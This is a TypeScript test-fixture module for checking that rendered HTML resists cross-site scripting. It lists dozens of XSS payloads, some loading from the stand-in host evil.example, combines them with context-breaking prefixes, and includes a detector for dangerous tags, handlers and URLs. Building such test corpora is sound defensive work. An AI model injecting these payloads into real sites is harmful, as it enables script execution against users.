import { parseHTML } from "linkedom";

/** What has been tried to make a page run somebody's script, in every context where a text may stand. */
export const VECTORS: readonly string[] = [
  "<script>alert(1)</script>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<script/src=//evil.example></script>",
  "<img src=x onerror=alert(1)>",
  "<img/src/onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<body onload=alert(1)>",
  "<iframe src=javascript:alert(1)>",
  '<iframe srcdoc="<script>alert(1)</script>">',
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href=data:text/html,<script>alert(1)</script>>x</a>",
  "<form action=javascript:alert(1)><button>",
  "<math><mtext><style><img src onerror=alert(1)>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content=0;url=//evil.example>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<object data=javascript:alert(1)>",
  "<embed src=javascript:alert(1)>",
  "<style>@import'//evil.example'</style>",
  "<noscript><p title='</noscript><img src onerror=alert(1)>'>",
  "<template><script>alert(1)</script></template>",
  "<x onclick=alert(1)>",
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "https://evil.example/'onmouseover='alert(1)",
  'https://evil.example/"onmouseover="alert(1)',
  "https://evil.example/<script>alert(1)</script>",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "＜script＞alert(1)＜/script＞",
];

/** What ends the place in which a text stands: an attribute, a tag, a comment, JSON within a script. */
const ENDS = ["", '">', "'>", "</textarea>", "-->", "</script>", "</title>"];

/** More than two hundred texts, none longer than a message. */
export const HOSTILE_TEXTS: readonly string[] = ENDS.flatMap((end) =>
  VECTORS.map((vector) => end + vector)
);
/** Those that fit into a name. */
export const HOSTILE_NAMES: readonly string[] = HOSTILE_TEXTS.filter((text) =>
  [...text].length <= 30
);

/** As many of these texts as fit, one after the other, beginning with another one each round. */
export function packed(
  texts: readonly string[],
  most: number,
  round: number,
): string {
  let all = "";
  for (let i = 0; i < texts.length; i++) {
    const text = texts[(round * 7 + i) % texts.length] ?? "";
    const longer = all === "" ? text : `${all} ${text}`;
    if ([...longer].length <= most) all = longer;
  }
  return all;
}

/** What a browser would run, load or follow of a page that is not ours. */
export function dangersIn(html: string): string[] {
  const { document } = parseHTML(html);
  const nonces = [...html.matchAll(/<script[^>]* nonce="([^"]+)"/g)]
    .map(([, nonce]) => nonce);
  const dangers = VECTORS.filter((vector) =>
    vector.startsWith("<") && html.includes(vector)
  );
  for (const element of document.querySelectorAll("*")) {
    const tag = element.tagName.toLowerCase();
    if (NEVER_OURS.includes(tag)) dangers.push(`<${tag}>`);
    if (tag === "script" && element.getAttribute("nonce") !== nonces[0]) {
      dangers.push("a script without the page's nonce");
    }
    for (const { name, value } of element.attributes) {
      if (name.startsWith("on")) dangers.push(`${tag} ${name}`);
      if (name === "srcdoc") dangers.push(`${tag} srcdoc`);
      if (
        LEADS.includes(name) && /^\s*(javascript|data|vbscript):/i.test(value)
      ) {
        dangers.push(`${tag} ${name}=${value}`);
      }
      if (LOADS.includes(`${tag} ${name}`) && value.includes("evil.example")) {
        dangers.push(`${tag} ${name}=${value}`);
      }
    }
  }
  return dangers;
}

const LEADS = ["href", "src", "action", "formaction", "data", "poster"];
const LOADS = ["img src", "script src", "link href", "form action"];
const NEVER_OURS = [
  ...["iframe", "object", "embed", "base", "math", "video", "audio", "x"],
  ...["applet", "frame", "frameset", "marquee"],
];
